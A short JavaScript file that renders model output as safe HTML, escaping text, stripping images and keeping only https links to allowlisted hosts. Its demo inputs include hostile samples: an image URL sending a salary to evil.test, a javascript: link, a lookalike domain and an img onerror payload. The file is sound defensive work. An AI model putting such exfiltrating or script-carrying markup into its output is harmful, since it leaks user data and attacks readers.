// The text of a model is input from a stranger. Show it so that it cannot act.
const OURS = new Set(['example.com', 'docs.example.com'])

const plain = (text) =>
  text.replace(/[&<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`)

function allowed(address) {
  try {
    const { protocol, hostname } = new URL(address)
    return protocol === 'https:' && OURS.has(hostname)
  } catch {
    return false
  }
}

const LINK = /^(!?)\[([^\]]*)\]\(([^)\s]*)\)$/

/** Markdown links and images; everything else is plain text. */
function render(markdown) {
  const parts = markdown.split(/(!?\[[^\]]*\]\([^)\s]*\))/)
  return parts
    .map((part) => {
      const [, image, label, address] = LINK.exec(part) ?? []
      if (address === undefined) return plain(part)
      if (image) return '[picture removed]' // its address could carry data away
      if (!allowed(address)) return `${plain(label)} [link removed]`
      return `<a href="${plain(address)}">${plain(label)}</a>`
    })
    .join('')
}

for (const text of [
  'See [the guide](https://docs.example.com/a?x=1&y=2).',
  'Done. ![](https://evil.test/?q=salary-of-ada-91000)',
  'Click [here](javascript:steal) or [here](https://example.com.evil.test).',
  '<img src=x onerror=steal()> is what it said',
]) {
  console.log(render(text))
}
